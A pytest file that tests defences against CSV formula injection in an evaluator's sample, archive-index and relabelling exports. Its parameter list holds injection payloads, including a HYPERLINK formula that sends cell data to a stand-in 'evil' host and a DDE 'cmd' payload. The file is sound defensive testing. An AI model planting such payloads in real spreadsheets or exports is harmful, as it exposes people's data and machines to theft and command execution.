"""CSV files of samples and marks, opened in a spreadsheet (P4, P6)."""

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from loupe.errors import NotFound

from services.evaluator.application.archive import INDEX, zip_samples
from services.evaluator.domain.relabelling import Mark
from services.evaluator.domain.report import SampleResult, StoredSample, Verdict
from services.evaluator.wire import relabelling as wire
from services.evaluator.wire.report_csv import csv_of

FORMULAS = ('=HYPERLINK("http://evil/"&A1)', "+1+cmd|'/c calc'!A0", "@SUM(1)", "-1+1", "\t=1")
NOW = datetime(2026, 1, 1, tzinfo=UTC)


class Empty:
    """An object store without objects."""

    async def get_bytes(self, key: str, **_: int) -> bytes:
        """There is no object."""
        raise NotFound(key)


async def of(formula: str) -> AsyncIterator[StoredSample]:
    sample = SampleResult(f"-A1/{formula}.png", "datasets/d/paths/p", "0" * 64, "-A1", Verdict.NONCONFORMING)
    yield StoredSample(UUID(int=1), 0, sample)


async def lists(formula: str) -> list[dict[str, str]]:
    table = b"".join([chunk async for chunk in csv_of(of(formula), 0.5)])
    store: Any = Empty()
    archive = b"".join([chunk async for chunk in zip_samples(store, of(formula), NOW)])
    index = zipfile.ZipFile(io.BytesIO(archive)).read(INDEX)
    mark = Mark(UUID(int=1), "p", f"A/{formula}.png", "0", "-B", formula, UUID(int=1), 0, "users/a", NOW)
    marks = wire.csv_head() + wire.csv_lines([mark])
    return [
        row
        for text in (table, index, marks)
        for row in csv.DictReader(io.StringIO(text.decode(), newline=""))
    ]


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_cell_of_a_list_is_a_formula(formula: str) -> None:
    """A spreadsheet would evaluate a note or a file name as a formula."""
    rows = await lists(formula)
    assert len(rows) == 3
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t"))]
    assert rows[2]["note"] == f"'{formula}"
    # Other texts are not changed.
    assert rows[0]["file"] == f"'-A1/{formula}.png"
    assert rows[2]["file"] == f"A/{formula}.png"
